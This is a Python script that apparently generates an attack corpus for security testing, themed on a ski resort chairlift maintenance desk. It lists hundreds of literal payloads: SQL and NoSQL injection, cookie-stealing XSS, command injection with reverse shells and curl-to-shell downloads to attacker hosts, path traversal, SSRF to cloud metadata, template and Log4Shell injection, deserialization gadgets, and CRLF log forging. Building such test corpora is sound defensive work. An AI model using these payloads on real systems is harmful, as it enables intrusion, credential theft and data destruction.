#!/usr/bin/env python3
"""Attack corpus generator for chairlift (ski resort chairlift maintenance desk).

Every literal below was written by hand for this theme. Blocks are one value per
line in the form  class::value  (split on the first '::').
"""
import json
import os
import random

SEED = 34502
HERE = os.path.dirname(os.path.abspath(__file__))

SQLI = r"""
tautology::T5' OR '1'='1
tautology::grip 0812' or 1=1-- -
tautology::O'Connell' OR 'x'='x' --
tautology::PO-2024-0142') OR ('a'='a
tautology::chair 28" or ""="
tautology::0233 OR 1=1
tautology::liner' OR 2>1 #
tautology::Lift 3'||'1'='1
union-based::T5' UNION SELECT username,password FROM users--
union-based::sheave liner' UNION ALL SELECT NULL,NULL,table_name,NULL FROM information_schema.tables-- -
union-based::-1 UNION SELECT 1,@@version,3,4
union-based::grip_id=0' union select grip_id,concat(login,0x3a,pw_hash),3 from staff_accounts#
union-based::PO-0142' UNION SELECT column_name,2,3 FROM information_schema.columns WHERE table_name='purchase_orders'--
union-based::incident' UnIoN SeLeCt NULL,group_concat(email),NULL FrOm operators-- x
union-based::T11')) UNION SELECT sqlite_version(),name,sql FROM sqlite_master--
union-based::0 union/**/select/**/1,user(),database()
union-based::brake pads'/**/UNION/**/SELECT/**/password,NULL/**/FROM/**/scada_users--
union-based::x' UNION SELECT 1,load_file('/etc/passwd'),3-- -
union-based::T9%27%20UNION%20SELECT%20name%2Cpass%20FROM%20users--
error-based::T5' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- -
error-based::grip' AND updatexml(null,concat(0x3a,(select version())),null)#
error-based::1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))
error-based::chair 70' AND 1=cast((select string_agg(usename,',') from pg_user) as int)--
error-based::liner' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(database(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- -
error-based::' and 1=ctxsys.drithsx.sn(1,(select user from dual))--
time-based::T5' AND SLEEP(7)-- -
time-based::grip 0233' and (select 1 from (select sleep(5))a)-- 
time-based::1; WAITFOR DELAY '0:0:6'--
time-based::splice B'; SELECT pg_sleep(8);--
time-based::chair 44' AND 3141=BENCHMARK(9000000,MD5('lift'))#
time-based::x' || (SELECT CASE WHEN (1=1) THEN pg_sleep(4) ELSE pg_sleep(0) END)--
time-based::0812' AND IF(SUBSTRING(@@version,1,1)='8',SLEEP(5),0)--+
time-based::T14' and 1=dbms_pipe.receive_message('x',6)--
time-based::alarm 3104' AND 1=(SELECT 1 WHERE randomblob(300000000))--
boolean-blind::T5' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a'--
boolean-blind::grip 0812' AND ASCII(SUBSTR((select user()),1,1))>100-- -
boolean-blind::chair 19' and length(database())=8 and 'a'='a
boolean-blind::PO-0155' AND (SELECT COUNT(*) FROM staff_accounts)>0 AND '1'='1
boolean-blind::1 AND (SELECT 1 FROM users WHERE username='admin' AND password LIKE 'a%')=1
boolean-blind::tower 12' AND EXISTS(SELECT * FROM scada_users)--
stacked::T5'; DROP TABLE inspections;--
stacked::grip 0233'; UPDATE grip_tests SET result='PASS' WHERE result='FAIL';--
stacked::1; INSERT INTO users(username,password,role) VALUES('maint_x','x','admin')--
stacked::liner 450'; EXEC xp_cmdshell 'whoami';--
stacked::chair 70'; COPY (SELECT '') TO PROGRAM 'id > /tmp/o';--
stacked::incident IR-2024-017'; DELETE FROM incident_reports WHERE 1=1; --
stacked::x'; ALTER USER postgres WITH PASSWORD 'pwned';--
stacked::splice'; CREATE TABLE x AS SELECT * FROM staff_accounts;--
order-by::1 ORDER BY 9-- -
order-by::inspected_at,(SELECT CASE WHEN (1=1) THEN inspected_at ELSE tower_id END)
order-by::liner_mm desc, (select sleep(4))
order-by::tower_id ASC;SELECT pg_sleep(5)--
comment-obfuscation::T5'/*!50000UNION*//*!50000SELECT*/1,2,3-- -
comment-obfuscation::grip'/**/oR/**/1/**/=/**/1/**/--
comment-obfuscation::0 uni/**/on sel/**/ect pass/**/word fr/**/om users
comment-obfuscation::brake'%0AUNION%0ASELECT%0Auser,pass%0AFROM%0Amysql.user--
comment-obfuscation::chair%2527%20or%201%253D1--
comment-obfuscation::T5＇ ｕｎｉｏｎ ｓｅｌｅｃｔ password ｆｒｏｍ users--
comment-obfuscation::PO-0142%u0027%20OR%201%3D1--
comment-obfuscation::grip 0812' || (SeLeCt CoUnT(*) FrOm StAfF_aCcOuNtS) > 0 --
second-order::Mike'-- 
second-order::admin'/*
out-of-band::T5'; SELECT LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\a'));--
out-of-band::x'; exec master..xp_dirtree '\\198.51.100.23\share';--
""" 

XSS = r"""
script-tag::Tower 5 bearing noisy <script>alert(document.cookie)</script>
script-tag::<script src=https://attacker.example/k.js></script>grip 0812 retest ok
script-tag::Splice B done</textarea><script>fetch('https://attacker.example/c?'+document.cookie)</script>
script-tag::<ScRiPt>new Image().src='//attacker.example/s?c='+escape(document.cookie)</sCrIpT>
script-tag::chair 70 sensor cursed <script>document.location='https://attacker.example/?'+localStorage.token</script>
script-tag::<script>eval(atob('YWxlcnQoMSk='))</script>
script-tag::"><script>alert(String.fromCharCode(88,83,83))</script>
script-tag::</title><script>alert(origin)</script>
script-tag::<script/src=//203.0.113.9/x></script>
script-tag::<scr<script>ipt>alert(1)</scr</script>ipt>
event-handler::Photo of T11 ice <img src=x onerror=alert(1)>
event-handler::<img src=/lift3.png onerror="fetch('//attacker.example/'+document.cookie)">
event-handler::<svg onload=alert(document.domain)>
event-handler::Grip 33 clicking <svg/onload=confirm`1`>
event-handler::<body onload=alert('lift')>
event-handler::<details open ontoggle=alert(1)>chair 19</details>
event-handler::<input autofocus onfocus=alert(document.cookie) value="T5">
event-handler::<video><source onerror="alert(1)"></video>
event-handler::<marquee onstart=alert(1)>liners arrived</marquee>
event-handler::<div onmouseover="alert('T14')">rope position amber</div>
event-handler::<iframe src=x onload=top.location='//attacker.example'>
event-handler::<audio src=1 onerror=alert(1)>
event-handler::<select autofocus onfocus=alert(1)>
event-handler::<object data=x onerror=alert(1)>
event-handler::<img src=x:x oNeRrOr=prompt(1)>
event-handler::<svg><animate onbegin=alert(1) attributeName=x dur=1s>
event-handler::<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>
event-handler::<img src=x onerror=\u0061lert(1)>
event-handler::<style>@keyframes k{}</style><div style="animation-name:k" onanimationstart=alert(1)>
event-handler::<form><button formaction=javascript:alert(1)>Submit PO</button></form>
attribute-breakout::T5" onmouseover="alert(1)
attribute-breakout::grip 0812' autofocus onfocus='alert(document.cookie)
attribute-breakout::"><img src=x onerror=alert(1)>
attribute-breakout::Lift 3" style="position:fixed;top:0;left:0;width:100%;height:100%" onmouseover="alert(1)
attribute-breakout::x' accesskey='x' onclick='alert(1)
attribute-breakout::chair 44"><svg onload=alert(1)>
attribute-breakout::</a><a href="javascript:alert(1)">click for splice photos</a>
javascript-uri::javascript:alert(document.cookie)
javascript-uri::JaVaScRiPt:fetch('//attacker.example/'+document.cookie)
javascript-uri::java&#x09;script:alert(1)
javascript-uri::javascript&colon;alert(1)
javascript-uri::&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)
javascript-uri::[splice photos](javascript:alert(document.domain))
javascript-uri::<a href="jav&#x0A;ascript:alert(1)">OEM grip manual</a>
javascript-uri::data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
javascript-uri::<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
javascript-uri::<embed src="javascript:alert(1)">
javascript-uri::vbscript:msgbox("lift")
encoded::%3Cscript%3Ealert(1)%3C%2Fscript%3E
encoded::%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E
encoded::&lt;script&gt;alert(1)&lt;/script&gt; (rendered via innerHTML after decode)
encoded::\u003cimg src=x onerror=alert(1)\u003e
encoded::\x3csvg onload=alert(1)\x3e
encoded::＜script＞alert(1)＜/script＞
encoded::%u003Cscript%u003Ealert(1)%u003C/script%u003E
encoded::+ADw-script+AD4-alert(1)+ADw-/script+AD4-
dom-template::{{constructor.constructor('alert(1)')()}}
dom-template::<div ng-app ng-csp>{{$on.constructor('alert(1)')()}}</div>
dom-template::#<img src=x onerror=alert(location.hash)>
dom-template::<x v-html="'<img src=x onerror=alert(1)>'"></x>
dom-template::'-alert(1)-'
dom-template::";alert(document.cookie);//
dom-template::</script><script>alert(1)</script>
svg-mathml::<svg><script>alert(1)</script></svg>
svg-mathml::<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">T5 report</text></a></svg>
svg-mathml::<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
svg-mathml::<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>
css-injection::<div style="background:url(javascript:alert(1))">T9</div>
css-injection::<style>*{background:url('//attacker.example/leak?c=1')}</style>
css-injection::<link rel=stylesheet href=//attacker.example/x.css>
css-injection::<meta http-equiv="refresh" content="0;url=https://attacker.example/login">
css-injection::<base href="//attacker.example/">
"""

CMDI = r"""
separator::T5-bearing.jpg; cat /etc/passwd
separator::lift3_inspection.pdf && id
separator::grip_0812.csv | nc 203.0.113.44 4444
separator::splice_B.png || curl -s http://attacker.example/i.sh | sh
separator::chair70.log; rm -rf /var/lib/scada/backups
separator::tower12 & whoami &
separator::alarms_2024-02.csv;wget -qO- http://198.51.100.7/a|bash
separator::T14%0aid
separator::report.pdf%0a/bin/sh -c 'uname -a'
separator::export.xlsx{NL}id
separator::photo.jpg;bash -i >& /dev/tcp/203.0.113.50/9001 0>&1
separator::L3;nc -e /bin/sh attacker.example 443
separator::T9 | python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.8",8443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'
separator::liner450.jpg; echo c2ggLWkgPiYgL2Rldi90Y3AvMjAzLjAuMTEzLjUwLzkwMDEgMD4mMQ== | base64 -d | sh
separator::chair 19 & ping -n 12 127.0.0.1 &
separator::grip.csv; sleep 9 #
separator::T5 && curl --data-binary @/etc/shadow https://attacker.example/up
separator::splice; crontab -l; echo '* * * * * curl attacker.example/b|sh' | crontab -
separator::lift3.pdf; perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("198.51.100.12")));open(STDIN,">&S");exec("/bin/sh -i")'
separator::PO-0142 | type C:\Windows\win.ini
separator::T2 & powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')"
separator::report.xlsx & certutil -urlcache -split -f http://203.0.113.30/x.exe %TEMP%\x.exe & %TEMP%\x.exe
separator::grip0233.png | dir C:\Users
separator::T7;echo${IFS}pwned>/tmp/p
substitution::$(cat /etc/passwd)
substitution::T5 bearing `id`
substitution::chair_$(whoami).jpg
substitution::splice photos `curl attacker.example/$(hostname)`
substitution::grip$(sleep${IFS}6)
substitution::L3-$(nslookup $(whoami).attacker.example).pdf
substitution::alarm_`uname -a`.csv
substitution::tower $(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh)
substitution::$(curl -fsSL http://198.51.100.40/s|sh)
substitution::${IFS}$(id)
substitution::`wget${IFS}attacker.example/x${IFS}-O${IFS}/tmp/x`
substitution::report_$((`id -u`)).pdf
substitution::<(curl attacker.example/r)
obfuscation::T5;c''at${IFS}/e''tc/pa''sswd
obfuscation::grip;/???/?at /???/p?ss??
obfuscation::chair;w\ho\am\i
obfuscation::x;$'\x63\x61\x74' /etc/passwd
obfuscation::splice;{cat,/etc/passwd}
obfuscation::L3;a=ca;b=t;$a$b /etc/hostname
obfuscation::photo.jpg;$(printf '\151\144')
obfuscation::T9%3Bcat%20%2Fetc%2Fpasswd
obfuscation::T11%26%26id
obfuscation::grip%7Cid
obfuscation::report;ca$@t /et$@c/pas$@swd
obfuscation::x;${PATH:0:1}bin${PATH:0:1}sh -c id
obfuscation::chair ；id
obfuscation::T5;"w"h"o"a"m"i
argument-injection::--output=/var/www/html/s.php https://attacker.example/s.txt
argument-injection::-oProxyCommand=curl${IFS}attacker.example|sh
argument-injection::lift3.pdf --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh
argument-injection::-exec id ;
argument-injection::splice.png -write /var/www/html/x.php
argument-injection::T5 -o /etc/cron.d/x
argument-injection::--upload-pack=touch /tmp/pwn
argument-injection::-F "file=@/etc/passwd" https://attacker.example/u
argument-injection::-e 'system("id")'
blind::T5 & ping -c 10 attacker.example &
blind::grip; dig $(whoami).attacker.example
blind::chair | sleep 15
blind::splice && timeout 8 yes > /dev/null
blind::alarm; nslookup `hostname`.attacker.example
blind::photo.jpg & ping -n 6 198.51.100.3
blind::report'; sleep 7; echo '
blind::T14"; curl attacker.example/ok; echo "
blind::grip_0233`sleep 5`.csv
"""

TRAVERSAL = r"""
dot-dot::../../../../etc/passwd
dot-dot::lift3/splices/../../../../../etc/shadow
dot-dot::..\..\..\..\Windows\win.ini
dot-dot::manuals/grips/../../../../proc/self/environ
dot-dot::OEM_grip_v3.pdf/../../../../../root/.ssh/id_rsa
dot-dot::../../../var/lib/scada/config/users.xml
dot-dot::photos/2024-02-14/../../../../../../home/maint/.bash_history
dot-dot::..\..\..\inetpub\wwwroot\web.config
dot-dot::../../../../../../proc/self/cmdline
dot-dot::exports/lift3/2024/../../../../app/.env
dot-dot::../../../../etc/nginx/nginx.conf
dot-dot::drawings/L3/../../../../../../var/log/auth.log
dot-dot::....//....//....//etc/passwd
dot-dot::..././..././..././etc/hosts
dot-dot::....\\....\\....\\Windows\\System32\\drivers\\etc\\hosts
dot-dot::/shared/maintenance/lift3/../../../../etc/passwd
dot-dot::../../../../../../../../../../../../etc/group
encoded::..%2f..%2f..%2f..%2fetc%2fpasswd
encoded::%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow
encoded::..%252f..%252f..%252f..%252fetc%252fpasswd
encoded::%252e%252e%252f%252e%252e%252fproc%252fself%252fenviron
encoded::..%c0%af..%c0%af..%c0%afetc%c0%afpasswd
encoded::%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
encoded::..%e0%80%af..%e0%80%afetc/passwd
encoded::%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd
encoded::..%5c..%5c..%5cwindows%5cwin.ini
encoded::..%255c..%255c..%255cboot.ini
encoded::．．／．．／．．／etc／passwd
encoded::..%u2216..%u2216windows%u2216win.ini
encoded::%2e%2e/%2e%2e/%2e%2e/var/lib/scada/backup.tar
null-byte::../../../../etc/passwd%00.pdf
null-byte::splice_photo.jpg/../../../../../etc/shadow%00.jpg
null-byte::..\..\..\boot.ini%00.png
null-byte::../../../app/config/database.yml\u0000.csv
absolute::/etc/passwd
absolute::C:\Windows\System32\config\SAM
absolute::file:///etc/passwd
absolute::/proc/self/fd/3
absolute::\\198.51.100.20\share\lift3.pdf
absolute::/var/run/secrets/kubernetes.io/serviceaccount/token
wrapper::php://filter/convert.base64-encode/resource=../config.php
wrapper::php://filter/read=string.rot13/resource=index.php
wrapper::zip://uploads/lift3_photos.zip%23shell.php
wrapper::phar://uploads/grip_test.jpg/x
"""

SSRF = r"""
cloud-metadata::http://169.254.169.254/latest/meta-data/iam/security-credentials/
cloud-metadata::http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token
cloud-metadata::http://metadata.google.internal/computeMetadata/v1/project/project-id
cloud-metadata::http://169.254.169.254/metadata/instance?api-version=2021-02-01
cloud-metadata::http://[fd00:ec2::254]/latest/meta-data/
cloud-metadata::http://100.100.100.200/latest/meta-data/ram/security-credentials/
cloud-metadata::http://169.254.170.2/v2/credentials/
cloud-metadata::http://169.254.169.254/latest/user-data
loopback::http://127.0.0.1:8080/admin/users
loopback::http://localhost:9200/_cat/indices
loopback::http://localhost/server-status
loopback::http://127.0.0.1:2375/containers/json
loopback::https://127.0.0.1:8443/actuator/env
loopback::http://[::1]:6379/
loopback::http://0.0.0.0:5000/debug/console
loopback::http://127.1/scada/config
loopback::http://localhost:10250/pods
internal-host::http://10.0.12.5/hmi/login
internal-host::http://192.168.1.20:502/
internal-host::http://172.17.0.1:8500/v1/kv/?recurse
internal-host::http://plc-lift3.resort.local/cgi-bin/status
internal-host::http://scada-historian:8086/query?q=SHOW%20DATABASES
internal-host::http://192.168.100.1/cgi-bin/luci
internal-host::http://10.20.0.4:15672/api/users
internal-host::http://kubernetes.default.svc/api/v1/namespaces/default/secrets
alt-ip::http://2130706433/admin
alt-ip::http://0x7f000001/
alt-ip::http://0177.0.0.1/
alt-ip::http://0xa9fea9fe/latest/meta-data/
alt-ip::http://2852039166/latest/meta-data/
alt-ip::http://[::ffff:169.254.169.254]/latest/meta-data/
alt-ip::http://[::ffff:7f00:1]:8080/
alt-ip::http://169.254.169.254.nip.io/latest/meta-data/
alt-ip::http://①②⑦.⓪.⓪.①/
alt-ip::http://127.000.000.001:6379/
parser-confusion::http://attacker.example@127.0.0.1/admin
parser-confusion::http://127.0.0.1#@maps.resort.example/tiles/1/2/3.png
parser-confusion::http://maps.resort.example.attacker.example/redirect?to=http://169.254.169.254/
parser-confusion::https://attacker.example/302?url=http://localhost:8080/manage
parser-confusion::http://127.0.0.1:80\@attacker.example/
parser-confusion::http://localtest.me:8080/internal
parser-confusion::https://wiki.resort.example/maintenance/../..//169.254.169.254/latest/meta-data
scheme::gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20sh%20-c%20id%5Cn%22%0D%0ASAVE
scheme::file:///var/lib/scada/config/users.xml
scheme::dict://127.0.0.1:11211/stats
scheme::gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>
scheme::ftp://10.0.0.8/backup/scada.tar
scheme::ldap://127.0.0.1:389/%0astats%0aquit
scheme::tftp://198.51.100.5/lift3.cfg
scheme::jar:http://attacker.example/x.jar!/
"""

CODE = r"""
ssti-jinja::Hello {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}, your shift starts at 07:30
ssti-jinja::{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}
ssti-jinja::Dear {{ ''.__class__.__mro__[1].__subclasses__() }}, confirm PO
ssti-jinja::{{ config.items() }}
ssti-jinja::{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}
ssti-jinja::{{ request.application.__globals__.__builtins__.__import__('os').popen('whoami').read() }}
ssti-jinja::{{ lipsum.__globals__['os'].popen('curl attacker.example/x|sh').read() }}
ssti-jinja::{{ joiner.__init__.__globals__.os.popen('id').read()|safe }}
ssti-jinja::{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')}}
ssti-twig::{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
ssti-twig::{{['id']|filter('system')}}
ssti-twig::{{['cat /etc/passwd']|map('passthru')|join}}
ssti-freemarker::<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
ssti-freemarker::${"freemarker.template.utility.Execute"?new()("uname -a")}
ssti-velocity::#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()
ssti-erb::<%= `id` %>
ssti-erb::Alarm <%= system('cat /etc/passwd') %> on L3
ssti-erb::<%= File.read('/etc/passwd') %>
ssti-smarty::{system('id')}
ssti-smarty::{php}echo `id`;{/php}
ssti-mako::${self.module.cache.util.os.system('id')}
ssti-mako::<% import os; os.system('curl attacker.example') %>
ssti-handlebars::{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return process.mainModule.require('child_process').execSync('id');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
ssti-pug::#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('id')}()}
ssti-thymeleaf::__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
expression-language::${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}
expression-language::#{T(java.lang.System).getenv()}
expression-language::${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}
expression-language::%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
expression-language::${applicationScope}
expression-language::${new java.lang.ProcessBuilder({'sh','-c','id'}).start()}
expression-language::*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}
expression-language::${pageContext.request.getSession().setAttribute("role","admin")}
log4shell::${jndi:ldap://attacker.example:1389/a}
log4shell::Grip 0812 retest ${jndi:rmi://203.0.113.66/obj}
log4shell::${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://attacker.example/x}
log4shell::${${::-j}${::-n}${::-d}${::-i}:dns://attacker.example/z}
log4shell::${jndi:${lower:l}${lower:d}a${lower:p}://198.51.100.9/c}
log4shell::${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/t}
log4shell::T5 squeal ${jndi:ldaps://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}
log4shell::${jn${upper:d}i:iiop://attacker.example/q}
log4shell::%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fe%7D
log4shell::${jndi:ldap://${hostName}.attacker.example/h}
eval-injection::__import__('os').system('id')
eval-injection::1+1;require('child_process').exec('curl attacker.example/n|sh')
eval-injection::"+require('fs').readFileSync('/etc/passwd')+"
eval-injection::system('cat /etc/passwd');
eval-injection::'; phpinfo(); //
eval-injection::${@print(md5(31337))}
eval-injection::eval(compile('import os\nos.system("id")','x','exec'))
eval-injection::process.mainModule.require('child_process').execSync('id').toString()
eval-injection::exec("import socket,subprocess;s=socket.create_connection(('203.0.113.5',4444));subprocess.call(['/bin/sh','-i'],stdin=s,stdout=s,stderr=s)")
eval-injection::<?php system($_GET['c']); ?>
eval-injection::grip_force_kN < 25.0 or __import__('subprocess').getoutput('id')
eval-injection::Function('return this')().process.exit()
proto-pollution::{"__proto__": {"isAdmin": true}}
proto-pollution::{"constructor": {"prototype": {"role": "eng_chief"}}}
proto-pollution::__proto__[isAdmin]=true
proto-pollution::constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//
proto-pollution::{"lift":"L3","__proto__":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}
proto-pollution::__proto__.toString=1
proto-pollution::{"alarm":{"__proto__":{"allowRemote":true}}}
formula::=cmd|' /C calc'!A0
formula::=HYPERLINK("https://attacker.example/?d="&A1&B1,"Grip 0812 report")
formula::@SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0
formula::+cmd|'/c notepad'!A1
formula::-2+3+cmd|' /C calc'!A0
formula::=WEBSERVICE("https://attacker.example/leak?"&A2)
formula::T5;=IMPORTXML(CONCAT("https://attacker.example/?",A1:A20),"//a")
formula::=DDE("cmd";"/C calc";"__DdeLink_60_870516294")
xxe::<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><alarms><a>&x;</a></alarms>
xxe::<!DOCTYPE foo [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]><grip id="0812"/>
xxe::<?xml version="1.0"?><!DOCTYPE d [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/">]><inspection>&m;</inspection>
xxe::<!DOCTYPE x [<!ENTITY % p SYSTEM "php://filter/convert.base64-encode/resource=/etc/hostname"><!ENTITY % d "<!ENTITY &#x25; e SYSTEM 'http://attacker.example/?%p;'>">%d;%e;]><x/>
xxe::<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><po>&d;</po>
xxe::<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>
xxe::<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg [<!ENTITY s SYSTEM "file:///var/lib/scada/config/users.xml">]><svg xmlns="http://www.w3.org/2000/svg"><text>&s;</text></svg>
deserialization::O:8:"Splicing":1:{s:4:"file";s:11:"/etc/passwd";}
deserialization::rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0
deserialization::cos{NL}system{NL}(S'id'{NL}tR.
deserialization::!!python/object/apply:os.system ["curl attacker.example/y | sh"]
deserialization::{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"},"MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]}}
deserialization::{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://attacker.example:1389/Obj","autoCommit":true}
deserialization::_$$ND_FUNC$$_function(){require('child_process').exec('id')}()
deserialization::--- !ruby/object:Gem::Installer{NL}  i: x
deserialization::a:2:{i:0;O:15:"Monolog\Handler":1:{s:7:"handler";s:6:"system";}i:1;s:2:"id";}
"""

NOSQLI = r"""
operator-injection::{"username": "maint_ana", "password": {"$ne": null}}
operator-injection::{"username": {"$gt": ""}, "password": {"$gt": ""}}
operator-injection::username[$ne]=x&password[$ne]=x
operator-injection::{"tower": "T5", "liner_mm": {"$lt": 99}, "$or": [{}, {"owner": "eng_chief"}]}
operator-injection::{"grip_id": {"$in": ["0812", {"$regex": ".*"}]}}
operator-injection::{"role": {"$nin": ["ops"]}}
operator-injection::chair[$exists]=true
operator-injection::{"user": "ops_top", "pin": {"$regex": "^1"}}
operator-injection::password[$regex]=^a.*&username=eng_chief
operator-injection::{"incident_id": {"$gte": ""}}
operator-injection::{"$where": "this.role == 'eng' || true"}
js-injection::'; return true; var x='
js-injection::0812'; while(true){}; '
js-injection::{"$where": "sleep(5000) || true"}
js-injection::T5' || this.password.match(/^a/) || 'x'=='
js-injection::{"$where": "function(){ return db.getCollectionNames().length > 0 }"}
js-injection::'; return this.pin.charAt(0) == '4'; var a='
aggregation::[{"$lookup": {"from": "staff_accounts", "localField": "x", "foreignField": "x", "as": "leak"}}]
aggregation::{"$match": {}}, {"$out": "inspections"}
aggregation::[{"$group": {"_id": "$password"}}]
aggregation::{"filter": {"$expr": {"$function": {"body": "function(){return true}", "args": [], "lang": "js"}}}}
couch-elastic::{"selector": {"_id": {"$gt": null}}, "fields": ["password"]}
couch-elastic::{"query": {"script": {"script": "java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')"}}}
couch-elastic::*) OR role:admin
redis::T5{CR}{NL}FLUSHALL{CR}{NL}
redis::grip_0812 EVAL "return redis.call('CONFIG','SET','dir','/var/spool/cron')" 0
operator-injection::{"$or": [{"username": "admin"}, {"username": {"$exists": true}}], "password": {"$type": 2}}
"""

CRLF = r"""
log-forging::T5 bearing swapped{NL}2024-02-14 12:01:15 INFO user=eng_chief action=APPROVE_SETPOINT speed=6.5
log-forging::grip 0812 PASS{CR}{NL}[INFO] Login succeeded for user admin from 10.0.0.1
log-forging::chair 70 pulled%0a2024-02-14T12:31:00Z ALARM_ACK user=maint_ana code=3104 status=CLEARED
log-forging::splice B%0d%0a[AUDIT] evac drill signed off by safety manager
log-forging::liner ok{NL}127.0.0.1 - - [14/Feb/2024:12:00:00] "GET /admin HTTP/1.1" 200
log-forging::Operator Leo{NL}{NL}=== SHIFT CLOSED, ALL CHAIRS CLEAR ===
log-forging::wind 15 km/h%E5%98%8A%E5%98%8DINFO brake test OK
log-forging::T14 reset%0A%1B[2J%1B[1;31mSCADA COMPROMISED
header-injection::lift3.pdf%0d%0aSet-Cookie:%20session=attacker
header-injection::/exports/lift3/%0D%0ALocation:%20https://attacker.example/
header-injection::en%0d%0aX-Forwarded-For: 127.0.0.1
header-injection::de-CH{CR}{NL}Set-Cookie: role=eng_chief; Path=/
header-injection::%E5%98%8D%E5%98%8ASet-Cookie:%20admin=1
header-injection::report.xlsx{CR}{NL}Content-Disposition: attachment; filename=x.exe
header-injection::grip%0AAccess-Control-Allow-Origin:%20https://attacker.example
response-splitting::lift3%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>
response-splitting::T5{CR}{NL}{CR}{NL}<html><body>Lift closed, log in again at https://attacker.example</body></html>
response-splitting::%0d%0a%0d%0a<svg onload=alert(1)>
response-splitting::/maintenance%0D%0AContent-Type:%20text/html%0D%0A%0D%0A%3Ch1%3EPO%20cancelled%3C/h1%3E
mail-header::maint-desk@resort.example%0ABcc: all-staff@attacker.example
mail-header::Ana{NL}Cc: supplier-list@attacker.example
mail-header::PO-2024-0142 confirm{CR}{NL}Bcc: a@attacker.example{CR}{NL}{CR}{NL}Please wire payment to IBAN XX00 0000 0000
mail-header::ops@resort.example{CR}{NL}Reply-To: billing@attacker.example
mail-header::Ropecraft%0d%0aSubject:%20URGENT%20new%20bank%20details
